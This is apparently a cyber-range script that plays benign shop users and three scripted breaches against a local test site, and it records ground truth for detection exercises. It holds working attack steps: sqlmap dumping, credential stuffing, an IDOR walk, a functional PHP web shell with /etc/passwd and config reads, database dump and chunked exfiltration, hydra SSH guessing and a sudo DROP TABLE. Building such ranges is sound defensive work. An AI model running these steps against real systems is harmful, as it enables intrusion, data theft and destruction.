#!/usr/bin/env bash
# run.sh RUN_DIR [--short]: play benign users and three breach scenarios
# against a range started by up.sh RUN_DIR, and write RUN_DIR/truth.json.
#
# Every request goes to 127.0.0.1; simulated web clients differ only in the
# X-Forwarded-For header (TEST-NET / private addresses), which the range's
# nginx trusts from 127.0.0.1. Every loop has a fixed bound. Scenarios:
#   (a) web intrusion: nmap, whatweb, gobuster recon; sqlmap on search.php;
#       theft by walking mypage.php?id=1..N with a stolen member login (IDOR)
#   (c) web shell: login, .php upload through upload.php, commands through it,
#       database dump and slow exfiltration in HTTP Range chunks, clean-up
#   (b) SSH: hydra password guessing, login with the guessed password, sudo,
#       DROP TABLE of the shop's orders
# Benign shop members browse throughout (in the background) and a benign admin
# logs in over SSH (one typo) before and after.
set -euo pipefail

if [[ $# -lt 1 || $# -gt 2 || ( $# -eq 2 && $2 != --short ) ]]; then
	echo "usage: run.sh RUN_DIR [--short]" >&2
	exit 2
fi
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
R=$(realpath -m "$1")
SHORT=0
[[ ${2:-} == --short ]] && SHORT=1
if [[ ! -e $R/run/up.done ]]; then
	echo "run.sh: $R is not up (run up.sh $R first)" >&2
	exit 1
fi
# shellcheck source=/dev/null
source "$R/ports.env"
export TZ=UTC LC_ALL=C
W=http://127.0.0.1:$WEB_PORT
T=$R/tools
EV=$R/run/truth-events.jsonl
mkdir -p "$T"
: >"$EV"

# Bounds: --short keeps the whole run to about two to three minutes.
if [[ $SHORT -eq 1 ]]; then
	BENIGN_SESSIONS=36 BENIGN_GAP=3
	SQLMAP_STOP=40 IDOR_LAST=120 IDOR_GAP=0.05 EXFIL_GAP=2
else
	BENIGN_SESSIONS=150 BENIGN_GAP=4
	SQLMAP_STOP=300 IDOR_LAST=1000 IDOR_GAP=0.2 EXFIL_GAP=15
fi

now() { date -u +%Y-%m-%dT%H:%M:%SZ; }
say() { printf '%s run.sh: %s\n' "$(date -u +%H:%M:%S)" "$*"; }

# phase ID SCENARIO ACTOR TACTIC TECHNIQUES START END DESCRIPTION [EXTRA-JSON]
# appends one phase of the ground truth.
phase() {
	local extra=${9:-}
	[[ -n $extra ]] || extra='{}'
	jq -nc --arg id "$1" --arg sc "$2" --arg actor "$3" --arg tactic "$4" --arg att "$5" \
		--arg start "$6" --arg fin "$7" --arg what "$8" --argjson extra "$extra" \
		'{type:"phase", id:$id, scenario:$sc, actor:$actor, tactic:($tactic|split(",")|map(select(. != ""))),
		  attack:($att|split(",")|map(select(. != ""))), start:$start, "end":$fin, description:$what} + $extra' >>"$EV"
}
# record KIND JSON appends a fact (entry vector, records read/destroyed...).
record() { jq -nc --arg k "$1" --argjson v "$2" '{type:$k} + $v' >>"$EV"; }

SSH_OPTS=(-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null
	-o PubkeyAuthentication=no -o PreferredAuthentications=password
	-o LogLevel=ERROR -o ConnectTimeout=10 -p "$SSH_PORT")
MYSOCK=$R/run/mysql/mysql.sock

# ---------------------------------------------------------------------------
# Benign users. Real browser user agents (current Chrome, Firefox, Safari,
# Edge strings); addresses from 192.0.2.0/24 and 10.20.0.0/16.
UAS=(
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15"
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0"
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1"
	"Mozilla/5.0 (Linux; Android 14; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.43 Mobile Safari/537.36"
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0"
)
FAMILIES=(Sato Suzuki Tanaka Ito Yamamoto Smith Brown Kato Yamada Wilson)

benign_addr() { # session number -> address
	local i=$1
	if ((i % 3 == 0)); then
		printf '10.20.%d.%d' $((i / 200)) $((1 + i % 200))
	else
		printf '192.0.2.%d' $((10 + i % 200))
	fi
}

benign_session() { # i
	local i=$1 ip ua member fam jar c
	ip=$(benign_addr "$i")
	ua=${UAS[$((i % ${#UAS[@]}))]}
	member=$((100 + (i * 37) % 2800))
	fam=${FAMILIES[$((i % ${#FAMILIES[@]}))]}
	jar=$R/run/tmp/benign-$i.jar
	c=(curl -s -o /dev/null --max-time 10 -A "$ua" -H "X-Forwarded-For: $ip" -b "$jar" -c "$jar")
	"${c[@]}" -e "https://www.example.jp/" "$W/"
	"${c[@]}" -e "$W/" "$W/static/style.css"
	# Every seventh member mistypes the password once: benign failures too.
	if ((i % 7 == 3)); then
		"${c[@]}" -e "$W/" -d "user=member$member&pass=member${member}x" "$W/login.php"
		sleep 1
	fi
	"${c[@]}" -e "$W/" -d "user=member$member&pass=member$member" "$W/login.php"
	"${c[@]}" -e "$W/" "$W/mypage.php?id=$member"
	sleep 0.5
	"${c[@]}" -e "$W/mypage.php?id=$member" "$W/search.php?q=$fam"
	((i % 4 == 0)) && "${c[@]}" -e "$W/" "$W/upload.php"
	"${c[@]}" -e "$W/" "$W/logout.php"
	rm -f "$jar"
	echo "$ip" >>"$R/run/benign-addrs"
}

benign_users() {
	local i
	for ((i = 1; i <= BENIGN_SESSIONS; i++)); do
		benign_session "$i" || true
		sleep "$BENIGN_GAP"
	done
}

benign_admin() { # label
	local ip=127.0.0.10 t0 t1
	t0=$(now)
	# One typo, then the right password: a benign failed login.
	sshpass -p 'Kz-admin-6b1-range' ssh "${SSH_OPTS[@]}" -b $ip kzadmin@127.0.0.1 true 2>/dev/null || true
	sshpass -p 'Kz-admin-6b1f-range' ssh "${SSH_OPTS[@]}" -b $ip kzadmin@127.0.0.1 'uptime; df -h / >/dev/null' >/dev/null
	t1=$(now)
	phase "benign-admin-$1" benign ops-admin "" "" "$t0" "$t1" \
		"administrator kzadmin logs in over SSH from $ip (one mistyped password first) and checks the host"
}

BENIGN_START=$(now)
benign_users &
BENIGN_PID=$!
trap 'kill $BENIGN_PID 2>/dev/null || true' EXIT
say "benign users started (${BENIGN_SESSIONS} sessions, pid $BENIGN_PID)"
benign_admin 1
sleep 3

# ---------------------------------------------------------------------------
# (a) Web intrusion from 203.0.113.50 (X-Forwarded-For). nmap cannot set a
# header, so it scans from the loopback alias 127.0.0.3 instead.
A_IP=203.0.113.50
A_SCAN=127.0.0.3
XA="X-Forwarded-For: $A_IP"

t0=$(now)
say "(a) recon: nmap, whatweb, gobuster"
nmap -sT -Pn -S $A_SCAN -e lo -sV --version-light -p "$WEB_PORT,$SSH_PORT,$DB_PORT" \
	-oN "$T/nmap.txt" 127.0.0.1 >/dev/null 2>&1
t1=$(now)
phase a1-portscan web-intrusion web-intruder reconnaissance T1046 "$t0" "$t1" \
	"nmap TCP connect scan with service detection of the web, SSH and database ports from $A_SCAN" \
	"$(jq -nc --arg s $A_SCAN '{source:$s, tool:"nmap"}')"
sleep 2
t0=$(now)
whatweb --no-errors -a 1 --header "$XA" "$W/" >"$T/whatweb.txt" 2>&1 || true
cat >"$T/dirs.txt" <<'LIST'
admin
administrator
backup
backups
config
config.php
db
.env
.git/HEAD
images
include
index.php
login.php
logout.php
mypage.php
phpinfo.php
phpmyadmin
robots.txt
search.php
server-status
static
test.php
upload
upload.php
uploads
uploads/
wp-admin
wp-login.php
LIST
gobuster dir -q --no-error -u "$W/" -w "$T/dirs.txt" -t 2 -H "$XA" -o "$T/gobuster.txt" >/dev/null 2>&1 || true
t1=$(now)
phase a2-web-recon web-intrusion web-intruder reconnaissance T1595.002,T1595.003 "$t0" "$t1" \
	"whatweb fingerprint and gobuster content discovery (small wordlist)" \
	'{"tool":"whatweb,gobuster"}'
sleep 2

say "(a) sqlmap on search.php?q (rows 1-$SQLMAP_STOP of members)"
t0=$(now)
sqlmap -u "$W/search.php?q=Sato" -p q --batch --dbms=MySQL --technique=BEU --level=1 --risk=1 \
	--threads=1 --headers="$XA" --output-dir="$T/sqlmap" --answers="crack=N,store=N" \
	--banner --current-user --current-db \
	--dump -D kizuki_shop -T members -C id,login,pass_sha256,email --start=1 --stop="$SQLMAP_STOP" \
	>"$T/sqlmap.txt" 2>&1 || true
t1=$(now)
phase a3-sqli web-intrusion web-intruder initial-access,collection T1190,T1213 "$t0" "$t1" \
	"sqlmap finds and exploits the SQL injection in search.php?q, dumps members 1-$SQLMAP_STOP (id, login, password hash, e-mail)" \
	'{"tool":"sqlmap"}'
record entry_vector "$(jq -nc --arg t "$t0" '{scenario:"web-intrusion", actor:"web-intruder",
	what:"SQL injection in search.php parameter q", time:$t, url:"/search.php?q="}')"
# What sqlmap really got (its CSV has a header line), not what was asked.
dumped=0
for f in "$T"/sqlmap/*/dump/kizuki_shop/members.csv; do
	[[ -f $f ]] && dumped=$(($(grep -c . "$f") - 1))
done
record records_read "$(jq -nc --argjson n "$SQLMAP_STOP" --argjson got $dumped '{scenario:"web-intrusion", actor:"web-intruder",
	via:"sqli", table:"kizuki_shop.members", first_id:1, last_id:$n, count:$got,
	columns:["id","login","pass_sha256","email"]}')"
sleep 2

say "(a) IDOR walk mypage.php?id=1..$IDOR_LAST"
t0=$(now)
jar=$T/intruder.jar
ua="python-requests/2.31.0"
# Member 42's password is "member42": the unsalted hash from the dump cracks at once.
curl -s -o /dev/null -A "$ua" -H "$XA" -c "$jar" -d "user=member42&pass=member42" "$W/login.php"
got=0
for ((id = 1; id <= IDOR_LAST; id++)); do
	code=$(curl -s -o /dev/null -w '%{http_code}' -A "$ua" -H "$XA" -b "$jar" "$W/mypage.php?id=$id") || code=000
	[[ $code == 200 ]] && got=$((got + 1))
	sleep "$IDOR_GAP"
done
t1=$(now)
phase a4-idor web-intrusion web-intruder collection T1213,T1078 "$t0" "$t1" \
	"logs in as member42 (cracked hash) and reads every member page by id (IDOR), python-requests user agent" \
	"$(jq -nc --argjson n "$IDOR_LAST" '{tool:"curl (python-requests user agent)", requests:$n}')"
record records_read "$(jq -nc --argjson n "$IDOR_LAST" --argjson got $got '{scenario:"web-intrusion",
	actor:"web-intruder", via:"idor", table:"kizuki_shop.members", first_id:1, last_id:$n, count:$got,
	columns:["login","given","family","email","phone","birth","city","card_last4"], also:"kizuki_shop.orders of those members"}')"
sleep 3

# ---------------------------------------------------------------------------
# (c) Web shell from 198.51.100.23 with a desktop browser user agent.
C_IP=198.51.100.23
XC="X-Forwarded-For: $C_IP"
CUA="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36"
cc=(curl -s --max-time 30 -A "$CUA" -H "$XC" -b "$T/shell.jar" -c "$T/shell.jar")

say "(c) web shell: login, upload"
t0=$(now)
# Credential stuffing: two leaked pairs fail, the third works.
for pair in "member2001:Sakura2001" "member77:password1" "member1207:member1207"; do
	"${cc[@]}" -o /dev/null -e "$W/" -d "user=${pair%%:*}&pass=${pair#*:}" "$W/login.php"
	sleep 1
done
t1=$(now)
phase c1-login webshell webshell-operator initial-access T1078 "$t0" "$t1" \
	"credential stuffing on login.php: two failures, then member1207 logs in"
sleep 1
t0=$(now)
printf '%s\n' '<?php if (isset($_REQUEST["c"])) { echo "<pre>"; system($_REQUEST["c"]); echo "</pre>"; } ?>' >"$T/avatar.php"
"${cc[@]}" -o /dev/null -e "$W/upload.php" "$W/upload.php"
"${cc[@]}" -o /dev/null -e "$W/upload.php" -F "picture=@$T/avatar.php;type=image/png" "$W/upload.php"
t1=$(now)
phase c2-upload webshell webshell-operator persistence T1505.003 "$t0" "$t1" \
	"uploads avatar.php (a PHP web shell) through upload.php into /uploads/"
record entry_vector "$(jq -nc --arg t "$t1" '{scenario:"webshell", actor:"webshell-operator",
	what:"PHP web shell uploaded through upload.php", time:$t, url:"/upload.php", file:"/uploads/avatar.php"}')"
sleep 2

SHELL_URL=$W/uploads/avatar.php
shell_get() { "${cc[@]}" -o /dev/null -G --data-urlencode "c=$1" "$SHELL_URL"; sleep 1; }
# POSTed commands do not appear in the access log (only the request line).
shell_post() { "${cc[@]}" -o /dev/null --data-urlencode "c=$1" "$SHELL_URL"; sleep 1; }

say "(c) web shell: commands"
t0=$(now)
shell_get id
shell_get "uname -a"
shell_get "cat /etc/passwd"
shell_get "ls -la .. ; cat ../config.php"
t1=$(now)
phase c3-discovery webshell webshell-operator discovery,credential-access T1059.004,T1082,T1087.001,T1552.001 "$t0" "$t1" \
	"commands through the web shell in the query string: id, uname -a, cat /etc/passwd, reads config.php (database password)"
t0=$(now)
shell_post "mysql -h127.0.0.1 -P$DB_PORT -ushopapp -pShop-app-2024 kizuki_shop -e 'SELECT * FROM members' > .cache-m.txt"
shell_post "cd .. && tar czf uploads/.cache-u.tgz --exclude=uploads/.cache-u.tgz --exclude=uploads/.cache-m.txt uploads config.php"
t1=$(now)
phase c4-collect webshell webshell-operator collection T1005,T1560.001 "$t0" "$t1" \
	"POSTed web shell commands (not in the access log): SELECT * FROM members into uploads/.cache-m.txt, tar of uploads and config.php"
record records_read "$(jq -nc '{scenario:"webshell", actor:"webshell-operator", via:"webshell mysql client",
	table:"kizuki_shop.members", first_id:1, last_id:3000, count:3000, columns:["*"], db_user:"shopapp"}')"

say "(c) slow exfiltration"
t0=$(now)
size=$(stat -c %s "$R/www/uploads/.cache-m.txt" 2>/dev/null || echo 0)
chunk=65536 out=0 n=0
for ((off = 0; off < size && n < 64; off += chunk, n++)); do
	b=$("${cc[@]}" -o /dev/null -w '%{size_download}' -r "$off-$((off + chunk - 1))" "$W/uploads/.cache-m.txt") || b=0
	out=$((out + b))
	sleep "$EXFIL_GAP"
done
b=$("${cc[@]}" -o /dev/null -w '%{size_download}' "$W/uploads/.cache-u.tgz") || b=0
out=$((out + b))
t1=$(now)
phase c5-exfil webshell webshell-operator exfiltration T1041,T1030 "$t0" "$t1" \
	"downloads the member dump in $n HTTP Range chunks of 64 KiB, ${EXFIL_GAP}s apart, then the tar archive" \
	"$(jq -nc --argjson b "$out" --argjson n "$n" '{bytes_out:$b, chunks:$n}')"
t0=$(now)
shell_post "rm -f .cache-m.txt .cache-u.tgz"
t1=$(now)
phase c6-cleanup webshell webshell-operator defense-evasion T1070.004 "$t0" "$t1" \
	"deletes the dump and archive through the web shell (the shell itself stays)"
sleep 2

# ---------------------------------------------------------------------------
# (b) SSH: hydra cannot bind a source address, so its guesses (and the
# intruder's login that follows) come from 127.0.0.1.
B_IP=127.0.0.1
printf '%s\n' admin root oracle kzops >"$T/ssh-users.txt"
printf '%s\n' 123456 password admin qwerty letmein welcome1 Passw0rd summer2024 >"$T/ssh-passwords.txt"
say "(b) hydra"
t0=$(now)
hydra -L "$T/ssh-users.txt" -P "$T/ssh-passwords.txt" -t 4 -f -I -o "$T/hydra.txt" \
	-s "$SSH_PORT" ssh://127.0.0.1 >"$T/hydra.log" 2>&1 || true
t1=$(now)
phase b1-bruteforce ssh ssh-intruder credential-access T1110.001 "$t0" "$t1" \
	"hydra SSH password guessing, users admin/root/oracle/kzops, 8 passwords, 4 tasks, stops at first hit" \
	'{"tool":"hydra"}'
sleep 3
say "(b) login, sudo, DROP TABLE"
t0=$(now)
printf 'summer2024\nsummer2024\n' | sshpass -p summer2024 ssh "${SSH_OPTS[@]}" -b $B_IP kzops@127.0.0.1 \
	"id; uname -a; sleep 1; sudo -S -p '' id; sleep 1; sudo -S -p '' mysql --socket=$MYSOCK -e 'SHOW DATABASES; DROP TABLE kizuki_shop.orders'" \
	>"$T/ssh-session.txt" 2>&1 || true
t1=$(now)
record entry_vector "$(jq -nc --arg t "$t0" --arg ip $B_IP '{scenario:"ssh", actor:"ssh-intruder",
	what:"SSH login as kzops with a guessed password", time:$t, address:$ip, user:"kzops"}')"
phase b2-impact ssh ssh-intruder initial-access,privilege-escalation,impact T1078.003,T1548.003,T1485 "$t0" "$t1" \
	"logs in as kzops with the guessed password, sudo to root, mysql DROP TABLE kizuki_shop.orders" \
	'{"user":"kzops"}'
record records_destroyed "$(jq -nc --arg t "$t1" '{scenario:"ssh", actor:"ssh-intruder",
	table:"kizuki_shop.orders", rows:6000, statement:"DROP TABLE kizuki_shop.orders", by:"root@localhost via sudo",
	aftermath:"mypage.php answers 500 from then on (PHP fatal error in the php-fpm error log)"}')"
sleep 2

benign_admin 2
say "waiting for benign users"
wait "$BENIGN_PID" || true
trap - EXIT
# Two more members come after the DROP: their pages fail (HTTP 500), the
# destruction's visible aftermath.
benign_session $((BENIGN_SESSIONS + 1)) || true
benign_session $((BENIGN_SESSIONS + 2)) || true
BENIGN_END=$(now)

# ---------------------------------------------------------------------------
jq -s --arg start "$BENIGN_START" --arg fin "$BENIGN_END" --argjson short $SHORT \
	--argjson sessions $((BENIGN_SESSIONS + 2)) \
	--arg web "127.0.0.1:$WEB_PORT" --arg ssh "127.0.0.1:$SSH_PORT" --arg db "127.0.0.1:$DB_PORT" \
	--argjson benign "$(sort -uV "$R/run/benign-addrs" 2>/dev/null | jq -R . | jq -sc .)" \
	--arg host shop-web01 '
{
  schema: 1,
  generator: "kizuki range/run.sh",
  short: ($short == 1),
  start: $start, "end": $fin,
  host: $host, timezone: "UTC",
  targets: {web: $web, ssh: $ssh, db: $db},
  logs: {
    nginx_access: "logs/nginx/access.log", nginx_error: "logs/nginx/error.log",
    auth: "logs/auth.log",
    mysql_general: "logs/mysql/general.log", mysql_slow: "logs/mysql/slow.log",
    mysql_error: "logs/mysql/error.log", php_fpm: "logs/php/php-fpm.log",
    php_error: "logs/php/php-error.log"
  },
  actors: [
    {id: "web-intruder", kind: "attacker", addresses: ["203.0.113.50", "127.0.0.3"],
     note: "127.0.0.3 is nmap only (it cannot set X-Forwarded-For)",
     user_agents: ["sqlmap", "WhatWeb", "gobuster", "python-requests/2.31.0", "nmap service probes"],
     tools: ["nmap", "whatweb", "gobuster", "sqlmap", "curl"], web_login: "member42"},
    {id: "webshell-operator", kind: "attacker", addresses: ["198.51.100.23"],
     tools: ["curl"], web_login: "member1207", webshell: "/uploads/avatar.php"},
    {id: "ssh-intruder", kind: "attacker", addresses: ["127.0.0.1"],
     note: "hydra cannot bind a source address, so the guessing and the login come from 127.0.0.1",
     tools: ["hydra", "ssh", "sudo", "mysql"], user: "kzops"}
  ],
  benign_actors: [
    {id: "shop-members", kind: "benign", addresses: $benign, sessions: $sessions,
     note: "browser user agents; every seventh session mistypes the password once"},
    {id: "ops-admin", kind: "benign", addresses: ["127.0.0.10"], user: "kzadmin",
     note: "SSH logins with one mistyped password each"}
  ],
  phases: [.[] | select(.type == "phase") | del(.type)],
  entry_vectors: [.[] | select(.type == "entry_vector") | del(.type)],
  records_read: [.[] | select(.type == "records_read") | del(.type)],
  records_destroyed: [.[] | select(.type == "records_destroyed") | del(.type)],
  data_out_bytes: ([.[] | select(.type == "phase") | .bytes_out // 0] | add)
}' "$EV" >"$R/truth.json"
say "done: $R/truth.json"
